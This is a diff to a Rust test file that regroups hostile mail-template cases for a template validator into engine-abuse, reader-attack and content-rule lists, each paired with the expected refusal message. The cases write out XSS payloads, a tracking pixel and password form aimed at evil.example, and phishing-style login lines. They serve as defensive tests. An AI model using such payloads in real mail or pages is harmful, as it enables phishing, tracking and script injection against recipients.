@@ -33,78 +33,93 @@ fn what_is_shipped_is_in_order_and_says_the_same_as_before() {
     }
 }
 
-/// Each hostile template with the words of the sentence that refuses it.
-fn hostile() -> Vec<(Part, String, &'static str)> {
-    let text = |source: &str| (Part::Text, format!("{source}\n{{{{> foot}}}}\n"));
-    let html = |source: &str| (Part::Html, format!("{{{{> head}}}}\n{source}\n{{{{> foot}}}}\n"));
+/// A part, a hostile template for it, and words of the sentence that refuses it.
+type Hostile = (Part, String, &'static str);
+
+fn text(source: &str, words: &'static str) -> Hostile {
+    (Part::Text, format!("{source}\n{{{{> foot}}}}\n"), words)
+}
+
+fn html(source: &str, words: &'static str) -> Hostile {
+    (Part::Html, format!("{{{{> head}}}}\n{source}\n{{{{> foot}}}}\n"), words)
+}
+
+/// What would take the process down, or say what the mail does not have.
+fn against_the_engine() -> Vec<Hostile> {
     let nested = format!("{}{}", "{{#if step}}".repeat(2000), "{{/if}}".repeat(2000));
-    let cases = vec![
-        // The engine of the templates.
-        (text("{{#*inline \"a\"}}{{> a}}{{/inline}}{{> a}}"), "know {{name}}"),
-        (text("{{> body}}"), "has no “body”"),
-        (text("{{> @partial-block}}"), "has no “@partial-block”"),
-        (text("{{* decorate}}"), "know {{name}}"),
-        (text("{{{project}}}"), "two braces"),
-        (html("{{&project}}"), "two braces"),
-        (html("{{~{project}~}}"), "two braces"),
-        (text("{{{{raw}}}}{{project}}{{{{/raw}}}}"), "two braces"),
-        (text("{{#each this}}{{#each this}}x{{/each}}{{/each}}"), "know {{name}}"),
-        (text("{{#with project}}{{../recipient}}{{/with}}"), "know {{name}}"),
-        (text("{{lookup project 'constructor'}}"), "know {{name}}"),
-        (text("{{log}}"), "has no “log”"),
-        (text("{{referral}}"), "has no “referral”"),
-        (text("{{#if stepp}}x{{/if}}"), "Did you mean “step”?"),
-        (text("{{#if step}}"), "no counterpart"),
-        (text("{{step"), "no counterpart"),
-        (text(&nested), "nest deeper"),
-        (text(&"x".repeat(70_000)), "64 KB"),
-        (text(&"{{project}}".repeat(5000)), "more than 500 tags"),
-        (html(&"{{project}}".repeat(300)), "256 KB"),
-        (text(&format!("{{{{step {}1{}}}}}", "(".repeat(9000), ")".repeat(9000))), "know {{name}}"),
-        // What a mail may not load, run or send.
-        (html("<script>alert(1)</script>"), "no <script>"),
-        (html("<SCRIPT SRC=//evil.example></SCRIPT>"), "no <script>"),
-        (html("<img src=\"https://evil.example/{{recipient}}.png\">"), "no <img>"),
-        (html("<svg onload=\"alert(1)\"></svg>"), "no <svg>"),
-        (html("<p onclick=\"alert(1)\">x</p>"), "“onclick”"),
-        (html("<form action=\"https://evil.example\"><input name=\"password\"></form>"), "no <form>"),
-        (html("<iframe src=\"x\"></iframe>"), "no <iframe>"),
-        (html("<meta http-equiv=\"refresh\" content=\"0\">"), "no <meta>"),
-        (html("<base href=\"x\">"), "no <base>"),
-        (html("<style>p{color:red}</style>"), "no <style>"),
-        (html("<link rel=\"stylesheet\" href=\"x\">"), "no <link>"),
-        (html("<a href=\"https://evil.example/\">打开</a>"), "leads to the page of the mail"),
-        (html("<a href=\"javascript:alert(1)\">打开</a>"), "leads to the page of the mail"),
-        (html("<a href=\"{{project}}\">打开</a>"), "leads to the page of the mail"),
-        (html("<a href=\"{{link}}?next={{project}}\">打开</a>"), "leads to the page of the mail"),
-        (html("<p {{project}}>x</p>"), "inside a tag"),
-        (html("<p title={{project}}>x</p>"), "inside a tag"),
-        (html("<p style=\"color:{{project}}\">x</p>"), "inside a tag"),
-        (html("<{{project}}>"), "&lt;"),
-        (html("<{{#if step}}script{{/if}}>"), "&lt;"),
-        (html("<p style=\"background:url(https://evil.example/x)\">x</p>"), "loads nothing"),
-        (html("<p style=\"width:expression(alert(1))\">x</p>"), "loads nothing"),
-        (html("<p style=\"background:\\75rl(x)\">x</p>"), "loads nothing"),
-        (html("<p style=\"position:fixed;top:0\">x</p>"), "covers nothing"),
-        (html("<!--[if mso]><script></script><![endif]-->"), "No HTML comments"),
-        (html("<p style='color:red>x</p>"), "is not closed"),
-        (html("&#x3c;script&#x3e;"), "write the character itself"),
-        (html("https&colon;//evil.example"), "write the character itself"),
-        (html("{{#if step}}<div>{{/if}}<p>x</p>"), "<div> is not closed"),
-        (html("</td></tr></table></body>"), "ends nothing"),
-        (html("{{> case}}"), "inside <table>"),
-        (html("{{> head}}"), "begins with {{> head}}"),
-        // What a mail may not say.
-        (text("请登录 http://evil.example/ 核实"), "only address"),
-        (text("请登录www.evil.example核实"), "only address"),
-        (text("evil-bank.com"), "only address"),
-        (text("写信给 someone@example.org"), "only address"),
-        (text("请联系13800138000"), "identity number"),
-        (html("<p>身份证11010519491231002X</p>"), "identity number"),
-        (text("付款\u{202E}知通"), "invisible"),
-    ];
-    let mut all: Vec<_> = cases.into_iter().map(|((part, source), words)| (part, source, words)).collect();
-    all.extend([
+    vec![
+        text("{{#*inline \"a\"}}{{> a}}{{/inline}}{{> a}}", "know {{name}}"),
+        text("{{> body}}", "has no “body”"),
+        text("{{> @partial-block}}", "has no “@partial-block”"),
+        text("{{* decorate}}", "know {{name}}"),
+        text("{{{project}}}", "two braces"),
+        html("{{&project}}", "two braces"),
+        html("{{~{project}~}}", "two braces"),
+        text("{{{{raw}}}}{{project}}{{{{/raw}}}}", "two braces"),
+        text("{{#each this}}{{#each this}}x{{/each}}{{/each}}", "know {{name}}"),
+        text("{{#with project}}{{../recipient}}{{/with}}", "know {{name}}"),
+        text("{{lookup project 'constructor'}}", "know {{name}}"),
+        text("{{log}}", "has no “log”"),
+        text("{{referral}}", "has no “referral”"),
+        text("{{#if stepp}}x{{/if}}", "Did you mean “step”?"),
+        text("{{#if step}}", "no counterpart"),
+        text("{{step", "no counterpart"),
+        text(&nested, "nest deeper"),
+        text(&"x".repeat(70_000), "64 KB"),
+        text(&"{{project}}".repeat(5000), "more than 500 tags"),
+        html(&"{{project}}".repeat(300), "256 KB"),
+        text(&format!("{{{{step {}1{}}}}}", "(".repeat(9000), ")".repeat(9000)), "know {{name}}"),
+    ]
+}
+
+/// What would load, run or send something.
+fn against_the_reader() -> Vec<Hostile> {
+    vec![
+        html("<script>alert(1)</script>", "no <script>"),
+        html("<SCRIPT SRC=//evil.example></SCRIPT>", "no <script>"),
+        html("<img src=\"https://evil.example/{{recipient}}.png\">", "no <img>"),
+        html("<svg onload=\"alert(1)\"></svg>", "no <svg>"),
+        html("<p onclick=\"alert(1)\">x</p>", "“onclick”"),
+        html("<form action=\"https://evil.example\"><input name=\"password\"></form>", "no <form>"),
+        html("<iframe src=\"x\"></iframe>", "no <iframe>"),
+        html("<meta http-equiv=\"refresh\" content=\"0\">", "no <meta>"),
+        html("<base href=\"x\">", "no <base>"),
+        html("<style>p{color:red}</style>", "no <style>"),
+        html("<link rel=\"stylesheet\" href=\"x\">", "no <link>"),
+        html("<a href=\"https://evil.example/\">打开</a>", "leads to the page of the mail"),
+        html("<a href=\"javascript:alert(1)\">打开</a>", "leads to the page of the mail"),
+        html("<a href=\"{{project}}\">打开</a>", "leads to the page of the mail"),
+        html("<a href=\"{{link}}?next={{project}}\">打开</a>", "leads to the page of the mail"),
+        html("<p {{project}}>x</p>", "inside a tag"),
+        html("<p title={{project}}>x</p>", "inside a tag"),
+        html("<p style=\"color:{{project}}\">x</p>", "inside a tag"),
+        html("<{{project}}>", "&lt;"),
+        html("<{{#if step}}script{{/if}}>", "&lt;"),
+        html("<p style=\"background:url(https://evil.example/x)\">x</p>", "loads nothing"),
+        html("<p style=\"width:expression(alert(1))\">x</p>", "loads nothing"),
+        html("<p style=\"background:\\75rl(x)\">x</p>", "loads nothing"),
+        html("<p style=\"position:fixed;top:0\">x</p>", "covers nothing"),
+        html("<!--[if mso]><script></script><![endif]-->", "No HTML comments"),
+        html("<p style='color:red>x</p>", "is not closed"),
+        html("&#x3c;script&#x3e;", "write the character itself"),
+        html("https&colon;//evil.example", "write the character itself"),
+        html("{{#if step}}<div>{{/if}}<p>x</p>", "<div> is not closed"),
+        html("</td></tr></table></body>", "ends nothing"),
+        html("{{> case}}", "inside <table>"),
+        html("{{> head}}", "begins with {{> head}}"),
+    ]
+}
+
+/// What a mail may not say, and what it must.
+fn against_the_rules() -> Vec<Hostile> {
+    vec![
+        text("请登录 http://evil.example/ 核实", "only address"),
+        text("请登录www.evil.example核实", "only address"),
+        text("evil-bank.com", "only address"),
+        text("写信给 someone@example.org", "only address"),
+        text("请联系13800138000", "identity number"),
+        html("<p>身份证11010519491231002X</p>", "identity number"),
+        text("付款\u{202E}知通", "invisible"),
         (Part::Text, "您好，请办理。".to_owned(), "does not show its link"),
         (Part::Text, "公告。".repeat(7000), "does not show its link"),
         (Part::Text, "{{#if to_fill}}{{link}}{{/if}}".to_owned(), "does not show its link"),
@@ -114,8 +129,11 @@ fn hostile() -> Vec<(Part, String, &'static str)> {
         (Part::Subject, "{{#if to_fill}}{{/if}}".to_owned(), "subject is empty"),
         (Part::Subject, "x".repeat(1001), "1000 bytes"),
         (Part::Subject, "{{> foot}}".to_owned(), "longer than 120"),
-    ]);
-    all
+    ]
+}
+
+fn hostile() -> Vec<Hostile> {
+    [against_the_engine(), against_the_reader(), against_the_rules()].concat()
 }
 
 #[test]
